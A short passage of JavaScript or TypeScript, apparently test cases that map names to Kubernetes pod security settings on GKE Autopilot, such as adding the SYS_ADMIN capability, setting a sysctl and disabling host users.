  'autopilot-capabilities': [context({ capabilities: { drop: ['ALL'], add: ['SYS_ADMIN'] } }, on('gke-autopilot'))],
  'autopilot-unknown': [
    podContext({ sysctls: [{ name: 'net.ipv4.tcp_syncookies', value: '1' }] }, on('gke-autopilot')), podField({ hostUsers: false }, on('gke-autopilot')),
  ],
};
